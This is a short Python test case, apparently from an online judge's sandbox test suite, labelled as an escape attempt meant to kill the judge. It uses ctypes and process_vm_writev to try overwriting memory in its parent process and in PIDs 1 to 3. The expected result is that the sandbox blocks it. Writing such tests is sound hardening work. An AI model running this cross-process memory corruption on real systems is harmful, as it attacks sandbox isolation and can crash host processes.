# class: escape
# about: Overwrites its parent's memory
# goal: kill_judge
# want: runtime_error wrong_answer signal
# case: ["1\n", "never"]
# Overwrites None's type in the parent.
import ctypes
import os
import time


class Span(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


libc = ctypes.CDLL(None, use_errno=True)
libc.process_vm_writev.restype = ctypes.c_ssize_t
buffer = ctypes.create_string_buffer(16)
local = Span(ctypes.addressof(buffer), 16)
for pid in {os.getppid(), 1, 2, 3}:
    remote = Span(id(None), 16)
    if libc.process_vm_writev(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) == 16:
        print("PW" + "NED wrote into", pid)
        time.sleep(1)
